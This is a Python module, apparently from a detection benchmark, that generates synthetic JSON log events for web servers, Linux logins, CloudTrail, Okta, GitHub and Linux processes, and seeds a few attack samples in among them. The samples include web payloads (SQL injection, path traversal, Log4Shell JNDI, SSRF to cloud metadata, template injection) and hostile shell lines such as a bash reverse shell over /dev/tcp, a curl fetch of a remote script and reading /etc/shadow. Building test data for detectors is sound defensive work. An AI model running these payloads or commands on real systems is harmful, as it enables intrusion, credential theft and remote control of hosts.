"""Events of services: web access, logins, an application's audit, CloudTrail, Okta, GitHub; all as JSON objects."""

from collections.abc import Callable
from random import Random
from typing import Any

from bench.detection.words import address, fill, guid, hexed, uneven

Fields = dict[str, Any]
Maker = Callable[[Random, str], Fields]

PAGES = [
    "/",
    "/products/<n4>",
    "/products/<n4>/reviews",
    "/basket",
    "/search",
    "/assets/app.<hex>.js",
    "/assets/site.<hex>.css",
    "/images/<name>-<n4>.jpg",
    "/account/orders/<n6>",
    "/api/v2/stock/<n4>",
    "/api/v2/prices",
    "/blog/<name>",
    "/help/<name>",
    "/favicon.ico",
    "/robots.txt",
    "/login",
    "/account",
    "/api/v2/session",
    "/feeds/<name>.xml",
    "/.well-known/security.txt",
]
QUERIES = [
    "",
    "",
    "",
    "page=<n1>",
    "q=<name>+<n2>&sort=price",
    "ref=<hex>",
    "utm_source=<name>&utm_campaign=<n4>",
    "v=<hex>",
]
ATTACKS = [
    "id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
    "file=../../../../etc/passwd",
    "q=<script>alert(1)</script>",
    "x=${jndi:ldap://<ip>:<port>/a}",
    "cmd=cat%20/etc/shadow",
    "id=<n4>%20AND%20SLEEP(5)",
    "page=php://filter/convert.base64-encode",
    "template={{7*7}}",
    "name=%7B%7Bconfig%7D%7D",
    "url=http://169.254.169.254/latest/meta-data/",
]
CALLS = [
    ("s3.amazonaws.com", "GetObject"),
    ("s3.amazonaws.com", "PutObject"),
    ("sts.amazonaws.com", "AssumeRole"),
    ("ec2.amazonaws.com", "DescribeInstances"),
    ("s3.amazonaws.com", "ListObjects"),
    ("kms.amazonaws.com", "Decrypt"),
    ("logs.amazonaws.com", "CreateLogStream"),
    ("ec2.amazonaws.com", "DescribeVolumes"),
    ("sqs.amazonaws.com", "ListQueues"),
    ("iam.amazonaws.com", "GetRole"),
    ("lambda.amazonaws.com", "ListFunctions20150331"),
    ("sts.amazonaws.com", "GetCallerIdentity"),
    ("rds.amazonaws.com", "DescribeDBInstances"),
    ("secretsmanager.amazonaws.com", "GetSecretValue"),
    ("cloudformation.amazonaws.com", "DescribeStacks"),
    ("signin.amazonaws.com", "ConsoleLogin"),
    ("ecr.amazonaws.com", "GetAuthorizationToken"),
]
RARE_CALLS = [
    ("cloudtrail.amazonaws.com", "StopLogging"),
    ("iam.amazonaws.com", "CreateAccessKey"),
    ("s3.amazonaws.com", "PutBucketPolicy"),
    ("ec2.amazonaws.com", "ModifySnapshotAttribute"),
    ("guardduty.amazonaws.com", "DeleteDetector"),
    ("iam.amazonaws.com", "UpdateLoginProfile"),
    ("ec2.amazonaws.com", "DeleteFlowLogs"),
    ("rds.amazonaws.com", "RestoreDBInstanceFromDBSnapshot"),
]
REGIONS = ["eu-west-3", "eu-west-1", "eu-central-1", "us-east-1"]


def web(rng: Random, at: str) -> Fields:
    """A web server's access, in the W3C names that Sigma's `webserver` rules use."""
    attack = rng.random() < 0.01
    status = rng.choice((200,) * 14 + (304, 301, 302, 404, 404, 403, 500))
    return {
        "time": at,
        "c-ip": address(rng),
        "cs-method": rng.choice(("GET",) * 8 + ("POST", "HEAD")),
        "cs-uri-stem": fill(uneven(rng, PAGES), rng),
        "cs-uri-query": fill(rng.choice(ATTACKS if attack else QUERIES), rng),
        "cs-host": fill("<domain>", rng),
        "sc-status": status,
        "sc-bytes": int(200 + 40_000 * rng.random() ** 3),
        "time-taken": int(400 * rng.random() ** 3),
        "cs-user-agent": "sqlmap/1.8" if attack and rng.random() < 0.3 else fill("<agent>", rng),
        "cs-referer": "" if rng.random() < 0.6 else fill("https://<domain>/<name>", rng),
    }


def auth(rng: Random, at: str) -> Fields:
    """A login, an attempt at one, a sudo: Linux authentication as a shipper of logs writes it."""
    kind = rng.random()
    user = fill("<user>", rng) if rng.random() < 0.8 else rng.choice(("root", "admin", "oracle", "git", "deploy"))
    if kind < 0.5:
        program, message = (
            "sshd",
            fill(f"Accepted publickey for {user} from <ip> port <port> ssh2: ED25519 SHA256:<hex64>", rng),
        )
    elif kind < 0.75:
        program, message = "sshd", fill(f"Failed password for {user} from <ip> port <port> ssh2", rng)
    elif kind < 0.9:
        program = "sudo"
        message = fill(
            f"{user} : TTY=pts/<n1> ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/systemctl status <name>", rng
        )
    else:
        program, message = "systemd-logind", fill(f"New session <n6> of user {user}.", rng)
    return {
        "time": at,
        "host": fill("<host>", rng).lower(),
        "program": program,
        "pid": int(400 + 60_000 * rng.random()),
        "severity": "info",
        "user": user,
        "message": message,
    }


def app(rng: Random, at: str) -> Fields:
    """A line of an application's audit log: who did what to whose record."""
    action = rng.choice(("record.read",) * 8 + ("login", "login", "record.update", "report.export", "search"))
    return {
        "time": at,
        "action": action,
        "outcome": "failure" if rng.random() < 0.04 else "success",
        "actor": {"id": fill("<user>", rng), "type": "staff" if rng.random() < 0.7 else "customer"},
        "client": {"ip": address(rng), "user_agent": fill("<agent>", rng)},
        "session": hexed(rng, 24).lower(),
        "object": {"type": rng.choice(("customer", "order", "invoice")), "id": fill("<n6>", rng)},
        "records": 1 + int(20 * rng.random() ** 6),
        "app": rng.choice(("shop", "crm", "billing")),
    }


def cloudtrail(rng: Random, at: str) -> Fields:
    source, name = rng.choice(RARE_CALLS) if rng.random() < 0.005 else uneven_call(rng)
    user = fill("<user>", rng)
    role = rng.random() < 0.6
    identity: Fields = {
        "type": "AssumedRole" if role else "IAMUser",
        "principalId": f"AROA{hexed(rng, 16)}:{user}",
        "arn": f"arn:aws:sts::123456789012:assumed-role/{fill('<name>', rng)}/{user}",
        "accountId": "123456789012",
        "accessKeyId": f"ASIA{hexed(rng, 16)}",
    }
    return {
        "eventVersion": "1.09",
        "userIdentity": identity,
        "eventTime": at[:19] + "Z",
        "eventSource": source,
        "eventName": name,
        "awsRegion": uneven(rng, REGIONS),
        "sourceIPAddress": address(rng),
        "userAgent": fill(
            "aws-cli/2.<n2>.<n1> Python/3.12.<n1> Linux/6.1.<n2> exe/x86_64 prompt/off command/s3.<name>", rng
        ),
        "requestParameters": {
            "bucketName": fill("example-<name>-<n2>", rng),
            "key": fill("exports/<n4>/<name>.parquet", rng),
        },
        "responseElements": None,
        "requestID": hexed(rng, 16),
        "eventID": guid(rng).lower(),
        "readOnly": name.startswith(("Get", "List", "Describe")),
        "eventType": "AwsApiCall",
        "managementEvent": True,
        "recipientAccountId": "123456789012",
        "eventCategory": "Management",
    }


def uneven_call(rng: Random) -> tuple[str, str]:
    return CALLS[int(len(CALLS) * rng.random() ** 2)]


def okta(rng: Random, at: str) -> Fields:
    kind = rng.choice(
        ("user.session.start",) * 6
        + ("user.authentication.sso",) * 8
        + ("policy.evaluate_sign_on", "user.mfa.factor.update")
    )
    user = fill("<user>", rng)
    return {
        "uuid": guid(rng).lower(),
        "published": at,
        "eventType": kind,
        "version": "0",
        "severity": "INFO",
        "displayMessage": kind.replace(".", " "),
        "actor": {
            "id": f"00u{hexed(rng, 12)}",
            "type": "User",
            "alternateId": f"{user}@example.com",
            "displayName": user,
        },
        "client": {"userAgent": {"rawUserAgent": fill("<agent>", rng)}, "zone": "null", "ipAddress": address(rng)},
        "outcome": {"result": "FAILURE" if rng.random() < 0.06 else "SUCCESS", "reason": None},
        "securityContext": {"isProxy": False, "asNumber": int(60_000 * rng.random())},
    }


def github(rng: Random, at: str) -> Fields:
    action = rng.choice(
        ("git.clone", "git.fetch", "git.push", "pull_request.merge", "workflows.completed_workflow_run", "repo.create")
    )
    if rng.random() < 0.01:
        action = rng.choice(
            ("repo.archived", "org.remove_member", "secret_scanning.disable", "protected_branch.policy_override")
        )
    return {
        "@timestamp": at,
        "action": action,
        "actor": fill("<user>", rng),
        "actor_ip": address(rng),
        "org": "example",
        "repo": fill("example/<name>-<n2>", rng),
        "user_agent": fill("git/2.<n2>.<n1>", rng),
        "_document_id": hexed(rng, 22),
        "operation_type": "access",
    }


def linux_process(rng: Random, at: str) -> Fields:
    """A process on Linux, in the names of Sysmon for Linux."""
    name = rng.choice(
        (
            "ls",
            "cat",
            "grep",
            "python3",
            "bash",
            "sh",
            "git",
            "curl",
            "systemctl",
            "ps",
            "find",
            "sed",
            "awk",
            "node",
            "rsync",
        )
    )
    odd = rng.random() < 0.01
    command = (
        rng.choice(
            (
                "curl -s http://<ip>/<hex>.sh",
                "bash -i >& /dev/tcp/<ip>/<port> 0>&1",
                "cat /etc/shadow",
                "chmod 4755 /tmp/<hex>",
                "crontab -r",
            )
        )
        if odd
        else f"{name} --{{}}=<n4> /srv/<name>/<n4>/<hex>.dat".replace(
            "{}", rng.choice(("batch", "size", "limit", "depth"))
        )
    )
    return {
        "time": at,
        "Computer": fill("<host>", rng).lower(),
        "ProcessId": int(400 + 60_000 * rng.random()),
        "Image": f"/usr/bin/{name}",
        "CommandLine": fill(command, rng),
        "CurrentDirectory": fill("/home/<user>", rng),
        "User": rng.choice(("root", "www-data", "deploy", "postgres")),
        "ParentImage": rng.choice(("/usr/lib/systemd/systemd", "/usr/bin/bash", "/usr/sbin/cron", "/usr/sbin/sshd")),
        "ParentCommandLine": rng.choice(
            ("/usr/lib/systemd/systemd --user", "-bash", "/usr/sbin/CRON -f", "sshd: deploy@pts/0")
        ),
    }
